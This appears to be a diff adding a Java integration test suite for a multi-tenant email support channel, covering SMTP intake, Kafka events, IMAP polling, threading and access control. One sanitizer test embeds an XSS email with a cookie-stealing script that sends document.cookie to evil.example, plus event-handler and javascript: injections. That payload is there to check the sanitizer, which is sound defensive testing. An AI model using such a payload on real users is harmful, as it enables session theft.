@@ -1,0 +1,711 @@
+package io.switchboard.email;
+
+import static io.restassured.RestAssured.given;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import static org.awaitility.Awaitility.await;
+import static org.hamcrest.Matchers.containsString;
+import static org.hamcrest.Matchers.equalTo;
+import static org.hamcrest.Matchers.hasSize;
+import static org.hamcrest.Matchers.not;
+
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.net.URI;
+import java.nio.charset.StandardCharsets;
+import java.sql.Connection;
+import java.sql.DriverManager;
+import java.sql.PreparedStatement;
+import java.sql.ResultSet;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.Properties;
+import java.util.UUID;
+import java.util.function.Predicate;
+
+import jakarta.activation.DataHandler;
+import jakarta.inject.Inject;
+import jakarta.mail.Folder;
+import jakarta.mail.Message;
+import jakarta.mail.MessagingException;
+import jakarta.mail.SendFailedException;
+import jakarta.mail.Session;
+import jakarta.mail.Store;
+import jakarta.mail.Transport;
+import jakarta.mail.internet.InternetAddress;
+import jakarta.mail.internet.MimeBodyPart;
+import jakarta.mail.internet.MimeMessage;
+import jakarta.mail.internet.MimeMultipart;
+import jakarta.mail.util.ByteArrayDataSource;
+
+import org.apache.kafka.clients.consumer.ConsumerConfig;
+import org.apache.kafka.clients.consumer.ConsumerRecord;
+import org.apache.kafka.clients.consumer.KafkaConsumer;
+import org.apache.kafka.common.TopicPartition;
+import org.apache.kafka.common.serialization.ByteArrayDeserializer;
+import org.apache.kafka.common.serialization.StringDeserializer;
+import org.eclipse.angus.mail.smtp.SMTPAddressFailedException;
+import org.eclipse.angus.mail.smtp.SMTPSendFailedException;
+import org.eclipse.microprofile.config.ConfigProvider;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+
+import io.quarkus.test.common.ResourceArg;
+import io.quarkus.test.common.WithTestResource;
+import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.specification.RequestSpecification;
+import io.switchboard.email.api.smtp.SmtpServerLifecycle;
+import io.switchboard.email.domain.EmailDirectory;
+import io.switchboard.email.messaging.ImapPoller;
+import io.switchboard.events.Channel;
+import io.switchboard.events.ContactCreated;
+import io.switchboard.events.ContactEvent;
+import io.switchboard.events.ContactMessageFailed;
+import io.switchboard.events.ContactMessageReceived;
+import io.switchboard.events.ContactMessageSent;
+import io.switchboard.events.EventType;
+import io.switchboard.events.ReplyRequested;
+import io.switchboard.events.SwitchboardEvent;
+import io.switchboard.events.TenantConfigured;
+import io.switchboard.events.Topics;
+import io.switchboard.events.codec.DecodeResult;
+import io.switchboard.events.codec.EventCodec;
+import io.switchboard.service.messaging.OutgoingEvents;
+import io.switchboard.testing.kafka.KafkaBrokerResource;
+import io.switchboard.testing.kafka.KafkaTestClient;
+import io.switchboard.testing.keycloak.KeycloakResource;
+import io.switchboard.testing.keycloak.KeycloakServer;
+import io.switchboard.testing.postgres.PostgresDatabaseResource;
+
+/**
+ * The email channel against real parts: a Kafka broker, PostgreSQL, Keycloak tokens, GreenMail as
+ * the relay and the external IMAP mailbox, and Jakarta Mail as the sending mail server. Every test
+ * uses its own sender and Message-IDs, so tests share the service without seeing each other.
+ */
+@QuarkusTest
+@WithTestResource(KafkaBrokerResource.class)
+@WithTestResource(value = PostgresDatabaseResource.class, initArgs = @ResourceArg(name = "prefix", value = "email"))
+@WithTestResource(KeycloakResource.class)
+@WithTestResource(GreenMailResource.class)
+class EmailChannelServiceTest {
+
+    private static final Duration WAIT = Duration.ofSeconds(30);
+    private static final String SUPPORT = "support@acme-bank.example";
+    private static final URI SOURCE = URI.create("/tests/email-channel");
+
+    @Inject
+    SmtpServerLifecycle smtp;
+    @Inject
+    EmailDirectory directory;
+    @Inject
+    ImapPoller poller;
+
+    private KafkaTestClient kafka;
+    private final String run = UUID.randomUUID().toString().substring(0, 8);
+
+    @BeforeEach
+    void configureTenants() {
+        kafka = new KafkaTestClient(ConfigProvider.getConfig().getValue("kafka.bootstrap.servers", String.class));
+        publish(new TenantConfigured(UUID.nameUUIDFromBytes("acme".getBytes()), "acme-bank", Instant.parse("2026-01-01T00:00:00Z"),
+                "Acme Bank", "Europe/London", "GB", null, "general", List.of(
+                        new TenantConfigured.EntryPoint(Channel.EMAIL, SUPPORT, "billing"),
+                        new TenantConfigured.EntryPoint(Channel.EMAIL, "sales@acme-bank.example", "general"),
+                        new TenantConfigured.EntryPoint(Channel.EMAIL, GreenMailResource.MAILBOX_ADDRESS, "claims"))));
+        publish(new TenantConfigured(UUID.nameUUIDFromBytes("globex".getBytes()), "globex-travel",
+                Instant.parse("2026-01-01T00:00:00Z"), "Globex Travel", "Europe/Madrid", "ES", null, "bookings",
+                List.of(new TenantConfigured.EntryPoint(Channel.EMAIL, "help@globex.example", "bookings"))));
+        await().atMost(WAIT).until(() -> directory.lookup("help@globex.example").isPresent());
+    }
+
+    @AfterEach
+    void close() {
+        kafka.close();
+    }
+
+    @Test
+    void aPlainMessageBecomesAContactOnceStoredAndOnKafka() throws Exception {
+        String sender = sender("jane");
+        String messageId = messageId("plain");
+        send(sender, List.of(SUPPORT), """
+                From: "Jane Doe" <%s>
+                To: %s
+                Subject: I was charged twice
+                Message-ID: %s
+                Content-Type: text/plain; charset=utf-8
+
+                Hello, my card was charged twice on Monday.
+                """.formatted(sender, SUPPORT, messageId));
+
+        List<ContactEvent> events = eventsFor(messageId, 2);
+        ContactCreated created = (ContactCreated) events.get(0);
+        ContactMessageReceived received = (ContactMessageReceived) events.get(1);
+        assertThat(created.tenantId()).isEqualTo("acme-bank");
+        assertThat(created.channel()).isEqualTo(Channel.EMAIL);
+        assertThat(created.entryPoint()).isEqualTo(SUPPORT);
+        assertThat(created.from().value()).isEqualTo(sender.toLowerCase());
+        assertThat(created.title()).isEqualTo("I was charged twice");
+        assertThat(created.customerHints()).containsEntry("name", "Jane Doe");
+        assertThat(received.contactId()).isEqualTo(created.contactId());
+        assertThat(received.text()).isEqualTo("Hello, my card was charged twice on Monday.");
+
+        String emailId = received.messageId();
+        assertThat(rawSize(emailId)).as("the raw message is stored").isGreaterThan(100);
+        as("alice").get("/api/emails/{id}", emailId).then().statusCode(200)
+                .body("text", equalTo("Hello, my card was charged twice on Monday."))
+                .body("from", equalTo(sender.toLowerCase()))
+                .body("contactId", equalTo(created.contactId()));
+        as("alice").get("/api/contacts/{id}/emails", created.contactId()).then().statusCode(200).body("$", hasSize(1));
+    }
+
+    @Test
+    void everyEndpointChecksTheTokenTheRoleAndTheTenant() throws Exception {
+        String messageId = messageId("auth");
+        send(sender("auth"), List.of(SUPPORT), simple(sender("auth"), SUPPORT, messageId, "Access", "who can read me"));
+        ContactMessageReceived received = (ContactMessageReceived) eventsFor(messageId, 2).get(1);
+        String attachmentlessContact = received.contactId();
+
+        given().get("/api/emails/{id}", received.messageId()).then().statusCode(401);
+        given().auth().oauth2("not-a-token").get("/api/emails/{id}", received.messageId()).then().statusCode(401);
+        String roleless = "norole-" + run;
+        KeycloakServer.shared().createUser(roleless, List.of(), List.of("acme-bank"));
+        given().auth().oauth2(KeycloakServer.shared().accessToken(roleless)).get("/api/emails/{id}", received.messageId())
+                .then().statusCode(403);
+        // dave serves globex-travel only: acme-bank's mail does not exist for him.
+        as("dave").get("/api/emails/{id}", received.messageId()).then().statusCode(404);
+        as("dave").get("/api/contacts/{id}/emails", attachmentlessContact).then().statusCode(404);
+        as("sam").get("/api/emails/{id}", received.messageId()).then().statusCode(200);
+        as("erin").get("/api/emails/{id}", received.messageId()).then().statusCode(200);
+        as("alice").get("/api/emails/{id}", "not-a-uuid").then().statusCode(400)
+                .contentType("application/problem+json").body("detail", containsString("not a valid email id"));
+    }
+
+    @Test
+    void aMultipartMessageKeepsItsTextHtmlAndFiles() throws Exception {
+        String sender = sender("files");
+        String messageId = messageId("multipart");
+        byte[] pdf = "%PDF-1.4 statement for October".getBytes(StandardCharsets.US_ASCII);
+        byte[] png = new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 1, 2, 3};
+
+        MimeMultipart alternative = new MimeMultipart("alternative");
+        alternative.addBodyPart(textPart("Please see the statement.", "plain"));
+        alternative.addBodyPart(textPart("<p>Please see the <b>statement</b>.<img src=\"cid:logo@files\"></p>", "html"));
+        MimeBodyPart alternativePart = new MimeBodyPart();
+        alternativePart.setContent(alternative);
+        MimeBodyPart logo = new MimeBodyPart();
+        logo.setDataHandler(new DataHandler(new ByteArrayDataSource(png, "image/png")));
+        logo.setContentID("<logo@files>");
+        logo.setDisposition("inline");
+        MimeBodyPart statement = new MimeBodyPart();
+        statement.setDataHandler(new DataHandler(new ByteArrayDataSource(pdf, "application/pdf")));
+        statement.setFileName("Kontoauszug Oktober.pdf");
+        MimeMultipart mixed = new MimeMultipart("mixed");
+        mixed.addBodyPart(alternativePart);
+        mixed.addBodyPart(logo);
+        mixed.addBodyPart(statement);
+        MimeMessage message = message(sender, SUPPORT, messageId, "Statement attached");
+        message.setContent(mixed);
+        message.saveChanges();
+        message.setHeader("Message-ID", messageId);
+        send(sender, List.of(SUPPORT), message);
+
+        ContactMessageReceived received = (ContactMessageReceived) eventsFor(messageId, 2).get(1);
+        assertThat(received.text()).isEqualTo("Please see the statement.");
+        assertThat(received.metadata()).containsEntry("html", "true");
+        assertThat(received.attachments()).hasSize(2);
+        var pdfRef = received.attachments().stream().filter(a -> a.contentType().equals("application/pdf")).findFirst().orElseThrow();
+        assertThat(pdfRef.filename()).isEqualTo("Kontoauszug Oktober.pdf");
+        assertThat(pdfRef.sizeBytes()).isEqualTo(pdf.length);
+        assertThat(pdfRef.uri().getPath()).isEqualTo("/api/attachments/" + pdfRef.id());
+
+        byte[] downloaded = as("alice").get("/api/attachments/{id}", pdfRef.id()).then().statusCode(200)
+                .header("Content-Type", "application/pdf")
+                .header("Content-Disposition", containsString("attachment"))
+                .header("X-Content-Type-Options", "nosniff")
+                .extract().asByteArray();
+        assertThat(downloaded).isEqualTo(pdf);
+        as("dave").get("/api/attachments/{id}", pdfRef.id()).then().statusCode(404);
+        as("alice").get("/api/emails/{id}", received.messageId()).then().statusCode(200)
+                .body("html", containsString("<b>statement</b>"))
+                .body("attachments.find { it.inline }.contentId", equalTo("logo@files"));
+    }
+
+    @Test
+    void headersAndBodiesInOtherCharsetsArriveAsUnicode() throws Exception {
+        String sender = sender("jose");
+        String messageId = messageId("latin1");
+        String raw = """
+                From: =?ISO-8859-1?Q?Jos=E9_Mu=F1oz?= <%s>
+                To: help@globex.example
+                Subject: =?ISO-8859-1?Q?Reserva_cancelada_=BFreembolso=3F?=
+                Message-ID: %s
+                MIME-Version: 1.0
+                Content-Type: text/plain; charset=ISO-8859-1
+                Content-Transfer-Encoding: quoted-printable
+
+                Cancel=E9 mi reserva, =BFcu=E1ndo llega el reembolso?
+                """.formatted(sender, messageId);
+        send(sender, List.of("help@globex.example"), raw);
+
+        ContactCreated created = (ContactCreated) eventsFor(messageId, 2).get(0);
+        assertThat(created.tenantId()).isEqualTo("globex-travel");
+        assertThat(created.title()).isEqualTo("Reserva cancelada ¿reembolso?");
+        assertThat(created.customerHints()).containsEntry("name", "José Muñoz");
+        assertThat(created.text()).isEqualTo("Cancelé mi reserva, ¿cuándo llega el reembolso?");
+    }
+
+    @Test
+    void htmlOnlyMailIsSanitizedBeforeAnyAgentSeesIt() throws Exception {
+        String sender = sender("html");
+        String messageId = messageId("html");
+        send(sender, List.of(SUPPORT), """
+                From: %s
+                To: %s
+                Subject: Look at this
+                Message-ID: %s
+                Content-Type: text/html; charset=utf-8
+
+                <html><head><script>fetch('https://evil.example/?c='+document.cookie)</script></head>
+                <body><p onmouseover="steal()">Please <a href="javascript:steal()">check</a> my account</p>
+                <img src="https://tracker.example/p.gif" onerror="steal()"><iframe src="https://evil.example"></iframe></body></html>
+                """.formatted(sender, SUPPORT, messageId));
+
+        ContactMessageReceived received = (ContactMessageReceived) eventsFor(messageId, 2).get(1);
+        assertThat(received.text()).isEqualTo("Please check my account").doesNotContain("evil", "cookie");
+        String html = as("alice").get("/api/emails/{id}", received.messageId()).then().statusCode(200)
+                .extract().path("html");
+        assertThat(html).contains("Please").doesNotContain("<script", "document.cookie", "onmouseover", "onerror",
+                "javascript:", "<iframe");
+    }
+
+    @Test
+    void repliesContinueTheirContactByHeadersOrByTheSubjectTokenOfTheSameCustomer() throws Exception {
+        String sender = sender("thread");
+        String first = messageId("thread-1");
+        send(sender, List.of(SUPPORT), simple(sender, SUPPORT, first, "Card blocked", "My card is blocked."));
+        ContactCreated created = (ContactCreated) eventsFor(first, 2).get(0);
+        String token = created.metadata().get("token");
+        assertThat(token).matches("\\[#SB-\\d+]");
+
+        String byHeader = messageId("thread-2");
+        send(sender, List.of(SUPPORT), """
+                From: %s
+                To: %s
+                Subject: Re: Card blocked
+                Message-ID: %s
+                In-Reply-To: %s
+                References: %s
+
+                Any news?
+                """.formatted(sender, SUPPORT, byHeader, first, first));
+        List<ContactEvent> second = eventsFor(byHeader, 1);
+        assertThat(second.get(0)).isInstanceOf(ContactMessageReceived.class);
+        assertThat(second.get(0).contactId()).isEqualTo(created.contactId());
+
+        String byToken = messageId("thread-3");
+        send(sender, List.of(SUPPORT), simple(sender, SUPPORT, byToken, "Re: Card blocked " + token, "Still blocked."));
+        assertThat(eventsFor(byToken, 1)).singleElement().extracting(ContactEvent::contactId).isEqualTo(created.contactId());
+
+        // Someone else quoting the token starts their own contact: a token alone never opens another customer's thread.
+        String stranger = sender("stranger");
+        String strangerId = messageId("thread-4");
+        send(stranger, List.of(SUPPORT), simple(stranger, SUPPORT, strangerId, "Re: Card blocked " + token, "Me too"));
+        List<ContactEvent> strangers = eventsFor(strangerId, 2);
+        assertThat(strangers.get(0)).isInstanceOf(ContactCreated.class);
+        assertThat(strangers.get(0).contactId()).isNotEqualTo(created.contactId());
+
+        as("alice").get("/api/contacts/{id}/emails", created.contactId()).then().statusCode(200).body("$", hasSize(3));
+    }
+
+    @Test
+    void theSameMessageDeliveredTwiceIsOneContact() throws Exception {
+        String sender = sender("twice");
+        String messageId = messageId("twice");
+        String raw = simple(sender, SUPPORT, messageId, "Twice", "Sent twice by a retrying server");
+        send(sender, List.of(SUPPORT), raw);
+        send(sender, List.of(SUPPORT), raw);
+        String sentinel = messageId("twice-sentinel");
+        send(sender, List.of(SUPPORT), simple(sender, SUPPORT, sentinel, "After", "after the duplicate"));
+        eventsFor(sentinel, 2);
+        assertThat(allEvents(e -> messageId.equals(header(e)))).hasSize(2);
+    }
+
+    @Test
+    void agentRepliesAreMailedThreadedFromTheTenantAndAnsweredOnKafka() throws Exception {
+        String customer = sender("reply");
+        String first = messageId("reply-1");
+        send(customer, List.of(SUPPORT), simple(customer, SUPPORT, first, "Refund please", "Where is my refund?"));
+        ContactCreated created = (ContactCreated) eventsFor(first, 2).get(0);
+
+        String requestId = "reply-" + run;
+        ReplyRequested reply = new ReplyRequested(UUID.randomUUID(), "acme-bank", Instant.now(), created.contactId(), requestId,
+                Channel.EMAIL, "alice", "We refunded the second charge today.", List.of(), Map.of());
+        publish(reply);
+
+        MimeMessage mailed = awaitRelayed(customer, 1).get(0);
+        assertThat(mailed.getSubject()).isEqualTo("Re: Refund please " + created.metadata().get("token"));
+        assertThat(mailed.getHeader("In-Reply-To", null)).isEqualTo(first);
+        assertThat(mailed.getHeader("References", " ")).contains(first);
+        assertThat(((InternetAddress) mailed.getFrom()[0]).getAddress()).isEqualTo(SUPPORT);
+        assertThat(((InternetAddress) mailed.getFrom()[0]).getPersonal()).isEqualTo("Acme Bank");
+        assertThat(mailed.getContent().toString().strip()).isEqualTo("We refunded the second charge today.");
+
+        ContactMessageSent sent = (ContactMessageSent) awaitOutcome(requestId, 1).get(0);
+        assertThat(sent.contactId()).isEqualTo(created.contactId());
+        assertThat(sent.agentId()).isEqualTo("alice");
+        String ourMessageId = sent.metadata().get("messageIdHeader");
+        assertThat(mailed.getMessageID()).isEqualTo(ourMessageId);
+
+        // A redelivered request is answered again, with the same event, and not mailed a second time.
+        publish(reply);
+        List<ContactEvent> outcomes = awaitOutcome(requestId, 2);
+        assertThat(outcomes.get(1).eventId()).isEqualTo(outcomes.get(0).eventId());
+        assertThat(relayedTo(customer)).hasSize(1);
+
+        // The customer answers our reply: the same contact goes on.
+        String answer = messageId("reply-2");
+        send(customer, List.of(SUPPORT), """
+                From: %s
+                To: %s
+                Subject: %s
+                Message-ID: %s
+                In-Reply-To: %s
+
+                Thank you!
+                """.formatted(customer, SUPPORT, mailed.getSubject(), answer, ourMessageId));
+        assertThat(eventsFor(answer, 1)).singleElement().extracting(ContactEvent::contactId).isEqualTo(created.contactId());
+        as("alice").get("/api/contacts/{id}/emails", created.contactId()).then().statusCode(200)
+                .body("direction", org.hamcrest.Matchers.contains("INBOUND", "OUTBOUND", "INBOUND"));
+    }
+
+    @Test
+    void aReplyThatCannotBeDeliveredIsAnsweredWithItsReason() {
+        String unknown = "reply-unknown-" + run;
+        publish(new ReplyRequested(UUID.randomUUID(), "acme-bank", Instant.now(), UUID.randomUUID().toString(), unknown,
+                Channel.EMAIL, "alice", "Hello?", List.of(), Map.of()));
+        ContactMessageFailed failed = (ContactMessageFailed) awaitOutcome(unknown, 1).get(0);
+        assertThat(failed.reason()).contains("no email conversation");
+        assertThat(failed.permanent()).isTrue();
+    }
+
+    @Test
+    void autoRepliesAndBouncesAreRecordedButNeverBecomeContacts() throws Exception {
+        String robot = sender("robot");
+        String outOfOffice = messageId("ooo");
+        send(robot, List.of(SUPPORT), """
+                From: %s
+                To: %s
+                Subject: Out of office
+                Message-ID: %s
+                Auto-Submitted: auto-replied
+
+                I am away until Monday.
+                """.formatted(robot, SUPPORT, outOfOffice));
+        String bounce = messageId("bounce");
+        send("", List.of(SUPPORT), """
+                From: Mail Delivery System <mailer-daemon@mx.example.com>
+                To: %s
+                Subject: Undelivered Mail Returned to Sender
+                Message-ID: %s
+
+                This is the mail system.
+                """.formatted(SUPPORT, bounce));
+        String sentinel = messageId("after-robots");
+        send(robot, List.of(SUPPORT), simple(robot, SUPPORT, sentinel, "A person now", "Written by hand"));
+        eventsFor(sentinel, 2);
+
+        assertThat(allEvents(e -> outOfOffice.equals(header(e)) || bounce.equals(header(e)))).isEmpty();
+        assertThat(status(outOfOffice)).isEqualTo("SUPPRESSED");
+        assertThat(status(bounce)).isEqualTo("SUPPRESSED");
+    }
+
+    @Test
+    void refusalsAreSmtpRepliesWithReasons() throws Exception {
+        String sender = sender("refused");
+        assertThatThrownBy(() -> send(sender, List.of("nobody@acme-bank.example"),
+                simple(sender, "nobody@acme-bank.example", messageId("unknown"), "Hi", "anyone?")))
+                .isInstanceOf(SendFailedException.class)
+                .satisfies(e -> assertThat(smtpCode(e)).isEqualTo(550));
+
+        String big = "x".repeat(76) + "\r\n";
+        String oversized = simple(sender, SUPPORT, messageId("big"), "Big", big.repeat(300_000 / big.length()));
+        assertThatThrownBy(() -> send(sender, List.of(SUPPORT), oversized))
+                .isInstanceOf(MessagingException.class)
+                .satisfies(e -> assertThat(smtpCode(e)).isEqualTo(552));
+
+        String fine = messageId("fine-after-refusals");
+        send(sender, List.of(SUPPORT), simple(sender, SUPPORT, fine, "Still there?", "yes"));
+        eventsFor(fine, 2);
+    }
+
+    @Test
+    void oneSenderCannotFloodTheChannel() throws Exception {
+        String flood = sender("flood");
+        int limit = ConfigProvider.getConfig().getValue("switchboard.email.smtp.messages-per-sender-per-minute", Integer.class);
+        List<Integer> refusals = new ArrayList<>();
+        // 2 x limit + 1 attempts within one minute span at most two windows, so at least one is refused.
+        for (int i = 0; i <= 2 * limit && refusals.isEmpty(); i++) {
+            try {
+                send(flood, List.of(SUPPORT), simple(flood, SUPPORT, messageId("flood-" + i), "Flood " + i, "again"));
+            } catch (MessagingException e) {
+                refusals.add(smtpCode(e));
+            }
+        }
+        assertThat(refusals).containsExactly(450);
+    }
+
+    @Test
+    void aPolledMailboxImportsEachMessageOnceEvenWhenAPollerRestartRepeatsIt() throws Exception {
+        String sender = sender("imap");
+        String messageId = messageId("imap");
+        MimeMessage message = new MimeMessage(session(), new ByteArrayInputStream(
+                crlf(simple(sender, GreenMailResource.MAILBOX_ADDRESS, messageId, "Claim 42", "Please process my claim"))
+                        .getBytes(StandardCharsets.UTF_8)));
+        GreenMailResource.greenMail().getUserManager().getUser(GreenMailResource.MAILBOX_USER).deliver(message);
+
+        List<ContactEvent> events = eventsFor(messageId, 2);
+        assertThat(((ContactCreated) events.get(0)).entryPoint()).isEqualTo(GreenMailResource.MAILBOX_ADDRESS);
+        assertThat(events.get(0).tenantId()).isEqualTo("acme-bank");
+        await().atMost(WAIT).until(() -> count("INBOX", messageId) == 0 && count("Processed", messageId) == 1);
+
+        // A crash between import and move leaves the message in the inbox: put it back and restart the poller.
+        poller.stop();
+        withMailbox(store -> {
+            Folder inbox = store.getFolder("INBOX");
+            inbox.open(Folder.READ_WRITE);
+            inbox.appendMessages(new Message[] {message});
+            inbox.close(false);
+        });
+        assertThat(count("INBOX", messageId)).isEqualTo(1);
+        poller.start();
+        await().atMost(WAIT).until(() -> count("INBOX", messageId) == 0 && count("Processed", messageId) == 2);
+
+        String sentinel = messageId("imap-sentinel");
+        send(sender, List.of(SUPPORT), simple(sender, SUPPORT, sentinel, "Later", "a later message"));
+        eventsFor(sentinel, 2);
+        assertThat(allEvents(e -> messageId.equals(header(e)))).as("imported once").hasSize(2);
+    }
+
+    // --- helpers ---
+
+    private String sender(String name) {
+        return name + "-" + run + "@customer.example";
+    }
+
+    private String messageId(String name) {
+        return "<" + name + "-" + run + "@customer.example>";
+    }
+
+    private static String simple(String from, String to, String messageId, String subject, String text) {
+        return "From: " + from + "\nTo: " + to + "\nSubject: " + subject + "\nMessage-ID: " + messageId
+                + "\nContent-Type: text/plain; charset=utf-8\n\n" + text + "\n";
+    }
+
+    private static String crlf(String message) {
+        return message.replace("\r\n", "\n").replace("\n", "\r\n");
+    }
+
+    private static RequestSpecification as(String user) {
+        return given().auth().oauth2(KeycloakServer.shared().accessToken(user));
+    }
+
+    private Session session() {
+        Properties properties = new Properties();
+        properties.setProperty("mail.smtp.host", "127.0.0.1");
+        properties.setProperty("mail.smtp.port", String.valueOf(smtp.port()));
+        return Session.getInstance(properties);
+    }
+
+    private void send(String envelopeSender, List<String> recipients, String raw) throws MessagingException {
+        send(envelopeSender, recipients,
+                new MimeMessage(session(), new ByteArrayInputStream(crlf(raw).getBytes(StandardCharsets.UTF_8))));
+    }
+
+    private void send(String envelopeSender, List<String> recipients, MimeMessage message) throws MessagingException {
+        Session session = session();
+        session.getProperties().setProperty("mail.smtp.from", envelopeSender.isEmpty() ? "<>" : envelopeSender);
+        try (Transport transport = session.getTransport("smtp")) {
+            transport.connect();
+            InternetAddress[] to = recipients.stream().map(EmailChannelServiceTest::address).toArray(InternetAddress[]::new);
+            // sendMessage (not Transport.send) keeps the bytes as written, Message-ID included.
+            transport.sendMessage(message, to);
+        }
+    }
+
+    private MimeMessage message(String from, String to, String messageId, String subject) throws MessagingException {
+        MimeMessage message = new MimeMessage(session());
+        message.setFrom(new InternetAddress(from));
+        message.setRecipients(Message.RecipientType.TO, to);
+        message.setSubject(subject, "UTF-8");
+        message.setHeader("Message-ID", messageId);
+        return message;
+    }
+
+    private static MimeBodyPart textPart(String text, String subtype) throws MessagingException {
+        MimeBodyPart part = new MimeBodyPart();
+        part.setText(text, "UTF-8", subtype);
+        return part;
+    }
+
+    private static InternetAddress address(String value) {
+        try {
+            return new InternetAddress(value);
+        } catch (MessagingException e) {
+            throw new IllegalArgumentException(e);
+        }
+    }
+
+    private static int smtpCode(Throwable e) {
+        for (Throwable t = e; t != null; t = t instanceof MessagingException m && m.getNextException() != null
+                ? m.getNextException() : t.getCause()) {
+            if (t instanceof SMTPAddressFailedException failed) {
+                return failed.getReturnCode();
+            }
+            if (t instanceof SMTPSendFailedException failed) {
+                return failed.getReturnCode();
+            }
+        }
+        throw new AssertionError("no SMTP reply code in " + e, e);
+    }
+
+    private void publish(SwitchboardEvent event) {
+        kafka.send(EventType.topicOf(event), event.subject(), EventCodec.encode(event, SOURCE),
+                Map.of("content-type", OutgoingEvents.CONTENT_TYPE));
+    }
+
+    private static String header(ContactEvent event) {
+        Map<String, String> metadata = event instanceof ContactCreated c ? c.metadata()
+                : event instanceof ContactMessageReceived r ? r.metadata() : Map.of();
+        return metadata.get("messageIdHeader");
+    }
+
+    /** The contact events of one inbound Message-ID, in topic order. */
+    private List<ContactEvent> eventsFor(String messageIdHeader, int count) {
+        return kafka.await(Topics.CONTACTS, record -> decode(record) instanceof ContactEvent e && messageIdHeader.equals(header(e)),
+                count, WAIT).stream().map(r -> (ContactEvent) decode(r)).toList();
+    }
+
+    private List<ContactEvent> awaitOutcome(String requestId, int count) {
+        return kafka.await(Topics.CONTACTS, record -> decode(record) instanceof ContactEvent e
+                && (e instanceof ContactMessageSent s && s.messageId().equals(requestId)
+                        || e instanceof ContactMessageFailed f && f.messageId().equals(requestId)),
+                count, WAIT).stream().map(r -> (ContactEvent) decode(r)).toList();
+    }
+
+    /** Every contact event on the topic now that matches. */
+    private List<ContactEvent> allEvents(Predicate<ContactEvent> matching) {
+        List<ContactEvent> events = new ArrayList<>();
+        try (KafkaConsumer<String, byte[]> consumer = new KafkaConsumer<>(Map.of(
+                ConsumerConfig.BOOTSTRAP_SERVERS_CONFIG, ConfigProvider.getConfig().getValue("kafka.bootstrap.servers", String.class),
+                ConsumerConfig.ENABLE_AUTO_COMMIT_CONFIG, false), new StringDeserializer(), new ByteArrayDeserializer())) {
+            List<TopicPartition> partitions = consumer.partitionsFor(Topics.CONTACTS).stream()
+                    .map(p -> new TopicPartition(p.topic(), p.partition())).toList();
+            consumer.assign(partitions);
+            consumer.seekToBeginning(partitions);
+            Map<TopicPartition, Long> end = consumer.endOffsets(partitions);
+            while (partitions.stream().anyMatch(p -> consumer.position(p) < end.get(p))) {
+                for (ConsumerRecord<String, byte[]> record : consumer.poll(Duration.ofMillis(200))) {
+                    if (decode(record) instanceof ContactEvent event && matching.test(event)) {
+                        events.add(event);
+                    }
+                }
+            }
+        }
+        return events;
+    }
+
+    private static SwitchboardEvent decode(ConsumerRecord<String, byte[]> record) {
+        return EventCodec.decode(record.value()) instanceof DecodeResult.Decoded decoded ? decoded.event() : null;
+    }
+
+    private static List<MimeMessage> relayedTo(String recipient) throws MessagingException {
+        List<MimeMessage> found = new ArrayList<>();
+        for (MimeMessage message : GreenMailResource.greenMail().getReceivedMessages()) {
+            for (var to : message.getAllRecipients()) {
+                if (((InternetAddress) to).getAddress().equalsIgnoreCase(recipient)) {
+                    found.add(message);
+                }
+            }
+        }
+        return found;
+    }
+
+    private static List<MimeMessage> awaitRelayed(String recipient, int count) {
+        await().atMost(WAIT).until(() -> relayedTo(recipient).size() >= count);
+        try {
+            return relayedTo(recipient);
+        } catch (MessagingException e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    private interface MailboxWork {
+        void run(Store store) throws Exception;
+    }
+
+    private void withMailbox(MailboxWork work) throws Exception {
+        Store store = Session.getInstance(new Properties()).getStore("imap");
+        store.connect("127.0.0.1", GreenMailResource.greenMail().getImap().getPort(), GreenMailResource.MAILBOX_USER,
+                GreenMailResource.MAILBOX_PASSWORD);
+        try {
+            work.run(store);
+        } finally {
+            store.close();
+        }
+    }
+
+    private int count(String folderName, String messageId) throws Exception {
+        int[] count = {0};
+        withMailbox(store -> {
+            Folder folder = store.getFolder(folderName);
+            if (!folder.exists()) {
+                return;
+            }
+            folder.open(Folder.READ_ONLY);
+            for (Message message : folder.getMessages()) {
+                if (!message.isSet(jakarta.mail.Flags.Flag.DELETED)
+                        && messageId.equals(((MimeMessage) message).getMessageID())) {
+                    count[0]++;
+                }
+            }
+            folder.close(false);
+        });
+        return count[0];
+    }
+
+    private long rawSize(String emailId) throws Exception {
+        return queryOne("SELECT length(raw) FROM email.inbound_email WHERE id = ?::uuid", emailId, ResultSet::getLong);
+    }
+
+    private String status(String messageId) throws Exception {
+        return queryOne("SELECT status FROM email.inbound_email WHERE message_id = ?", messageId, ResultSet::getString);
+    }
+
+    private interface Column<T> {
+        T read(ResultSet resultSet, int index) throws java.sql.SQLException;
+    }
+
+    private static <T> T queryOne(String sql, String parameter, Column<T> column) throws Exception {
+        var config = ConfigProvider.getConfig();
+        try (Connection c = DriverManager.getConnection(config.getValue("quarkus.datasource.jdbc.url", String.class),
+                config.getValue("quarkus.datasource.username", String.class),
+                config.getValue("quarkus.datasource.password", String.class));
+                PreparedStatement s = c.prepareStatement(sql)) {
+            s.setString(1, parameter);
+            try (ResultSet r = s.executeQuery()) {
+                assertThat(r.next()).as(sql + " with " + parameter).isTrue();
+                return column.read(r, 1);
+            }
+        }
+    }
+
+    @SuppressWarnings("unused")
+    private static byte[] bytes(MimeMessage message) throws Exception {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        message.writeTo(out);
+        return out.toByteArray();
+    }
+}
